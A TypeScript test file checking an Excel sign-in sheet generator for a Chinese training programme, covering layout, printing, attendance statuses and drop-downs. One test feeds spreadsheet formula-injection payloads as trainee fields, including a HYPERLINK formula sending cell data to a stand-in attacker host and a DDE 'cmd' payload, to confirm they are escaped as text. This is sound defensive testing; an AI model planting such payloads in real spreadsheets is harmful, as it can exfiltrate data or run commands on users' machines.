import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { Registration } from '../../../shared/domain/trainee-registration';
import { signInRowOf } from '../../../shared/forms/index';
import {
  loadWorkbook,
  positionIn,
  programme,
  registrationIdOf,
  SESSIONS,
  signInRows,
  signInSheet,
} from '../../fixtures/sign-in-data';
import { unzipEntries } from '../../fixtures/spreadsheet-files';

type WithValidations = { dataValidations: { model: Record<string, ExcelJS.DataValidation> } };

async function builtSheet(...args: Parameters<typeof signInSheet>) {
  const data = await signInSheet(...args);
  const workbook = await loadWorkbook(data);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return { data, workbook, sheet, at: positionIn(sheet) };
}

const textOf = (sheet: ExcelJS.Worksheet) => JSON.stringify(sheet.getSheetValues());

describe('the printable sign-in sheet', () => {
  it('has the fixed columns and one column per session, headed 第k场 with the session label', async () => {
    // Prepare / Act
    const { sheet, at } = await builtSheet(signInRows(3));
    // Assess
    const headers = (sheet.getRow(at.headerRow).values as unknown[]).slice(1).map((v) => String(v).replace(/\n/g, ''));
    expect(headers.slice(0, 6)).toEqual(['序号', '报名编号', '姓名', '所在单位', '企业名称', '职务']);
    expect(headers.slice(6)).toEqual(SESSIONS.map((s) => `第${s.session}场 ${s.label}`));
    expect(headers).toHaveLength(6 + 8);
    expect(headers[6]).toBe('第1场 第1天上午（9月23日）');
    expect(headers[13]).toBe('第8场 第4天下午（9月26日）');
    expect(sheet.name).toBe('签到表');
  });

  it('prints on A4 landscape, one page wide, with the title and header repeated on every page; header frozen', async () => {
    const { sheet, at } = await builtSheet(signInRows(60));
    expect(sheet.pageSetup.orientation).toBe('landscape');
    expect(sheet.pageSetup.paperSize).toBe(9);
    expect(sheet.pageSetup.fitToPage).toBe(true);
    expect(sheet.pageSetup.fitToWidth).toBe(1);
    expect(sheet.pageSetup.fitToHeight).toBe(0);
    expect(sheet.pageSetup.printTitlesRow).toBe(`1:${at.headerRow}`);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: at.headerRow });
    expect(sheet.getColumn(5).width).toBeGreaterThanOrEqual(20); // enterprise names are long
  });

  it('titles the sheet with the year, class, theme, host, city·venue and dates', async () => {
    const { sheet } = await builtSheet(signInRows(1));
    expect(sheet.getCell('A1').value).toBe('2024年度中小企业经营管理领军人才培训 第1期「高质量发展专题」签到表');
    const info = String(sheet.getCell('A2').value);
    expect(info).toContain('清华大学');
    expect(info).toContain('北京·清华大学（示例场地）');
    expect(info).toContain('2024年9月23日至9月26日');
  });

  it('says in red that the schedule is sample data when it is, and not otherwise', async () => {
    const sample = await builtSheet(signInRows(1), { sampleData: true });
    const line = sample.sheet.getCell('A3');
    expect(String(line.value)).toMatch(/示例数据.*附件1/);
    expect(line.font?.color?.argb).toBe('FFC00000');

    const published = await builtSheet(signInRows(1), { sampleData: false });
    expect(textOf(published.sheet)).not.toContain('示例数据');
    expect(published.at.headerRow).toBe(sample.at.headerRow - 1);
  });

  it('writes provinces’ text that looks like a formula as text with a leading apostrophe, never as a formula', async () => {
    const [row] = signInRows(1);
    if (!row) throw new Error('no row');
    const hostile = {
      ...row,
      name: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
      unitName: '@SUM(1,2)',
      enterpriseName: '+cmd|" /C calc"!A0',
      position: '-2+3',
    };
    const tabbed = { ...row, registrationId: registrationIdOf(2), name: '\t=1+1', position: '\r=1+1' };
    const { data, sheet, at } = await builtSheet([hostile, tabbed]);
    const line = sheet.getRow(at.headerRow + 1);
    for (const [column, original] of [
      [3, hostile.name],
      [4, hostile.unitName],
      [5, hostile.enterpriseName],
      [6, hostile.position],
    ] as const) {
      const cell = line.getCell(column);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${original}`);
    }
    expect(sheet.getRow(at.headerRow + 2).getCell(3).value).toBe("'\t=1+1");
    // XML reads a carriage return back as a line feed; what matters is the apostrophe in front.
    expect(sheet.getRow(at.headerRow + 2).getCell(6).value).toMatch(/^'\s=1\+1$/);
    const sheetXml = (await unzipEntries(data)).find((entry) => entry.name === 'xl/worksheets/sheet1.xml');
    expect(sheetXml?.data.toString('utf8')).not.toMatch(/<f[ >]/);
    // Ordinary text is left alone.
    expect(line.getCell(2).value).toBe(hostile.registrationId);
  });

  it('pre-fills recorded statuses in Chinese and the leave the unit granted; blank otherwise', async () => {
    const [first, second] = signInRows(2);
    if (!first || !second) throw new Error('no rows');
    const rows = [
      { ...first, recorded: { 1: 'present', 2: 'late', 3: 'absent' } as const, leave: [3, 5] },
      { ...second, leave: [8] },
    ];
    const { sheet, at } = await builtSheet(rows);
    const cell = (registrationId: string, session: number) =>
      sheet.getRow(at.rowOf(registrationId)).getCell(at.sessionColumn(session)).value;
    expect(cell(first.registrationId, 1)).toBe('出勤');
    expect(cell(first.registrationId, 2)).toBe('迟到');
    expect(cell(first.registrationId, 3)).toBe('缺勤'); // a record wins over leave
    expect(cell(first.registrationId, 5)).toBe('请假（已批准）');
    expect(cell(first.registrationId, 4)).toBeNull();
    expect(cell(second.registrationId, 8)).toBe('请假（已批准）');
    expect(sheet.getRow(at.rowOf(second.registrationId)).getCell(1).value).toBe(2);
  });

  it('offers 出勤/迟到/缺勤 as a drop-down on every session cell of every trainee', async () => {
    const { sheet, at } = await builtSheet(signInRows(4));
    const model = (sheet as unknown as WithValidations).dataValidations.model;
    for (let row = at.headerRow + 1; row <= at.headerRow + 4; row++) {
      for (let session = 1; session <= 8; session++) {
        const address = sheet.getRow(row).getCell(at.sessionColumn(session)).address;
        expect(model[address], address).toMatchObject({ type: 'list', formulae: ['"出勤,迟到,缺勤"'] });
      }
    }
    expect(model[sheet.getRow(at.headerRow + 1).getCell(at.idColumn).address]).toBeUndefined();
  });

  it('ends with how to fill it in: the three marks, leave only through the unit, upload as form "attendance"', async () => {
    const { sheet, at } = await builtSheet(signInRows(2));
    const below = Array.from({ length: sheet.rowCount - at.headerRow - 2 }, (_, i) =>
      String(sheet.getRow(at.headerRow + 3 + i).getCell(1).value ?? ''),
    ).join('\n');
    for (const words of ['出勤', '迟到', '缺勤', '请假', '所在单位', 'POST /uploads', 'attendance']) {
      expect(below).toContain(words);
    }
  });

  it('turns a roster entry into a row: unit by name, records and leave by session number', () => {
    const registration = {
      registrationId: registrationIdOf(7, '330200'),
      unit: '330200',
      trainee: { name: '王五', enterpriseName: '宁波示例有限公司', position: '董事长' },
      attendance: { '1': { status: 'late', recordedBy: 'h', recordedAt: '2024-09-23T09:00:00+08:00' } },
      leave: { '4': { reason: '病假', unit: '330200', grantedBy: 'u', grantedAt: '2024-09-20T09:00:00+08:00' } },
    } as unknown as Registration;
    expect(signInRowOf(registration)).toEqual({
      registrationId: registration.registrationId,
      name: '王五',
      unitName: '宁波市',
      enterpriseName: '宁波示例有限公司',
      position: '董事长',
      leave: [4],
      recorded: { 1: 'late' },
    });
  });

  it('uses the programme as shipped, which is sample data', () => {
    expect(programme.sampleData).toBe(true);
  });
});
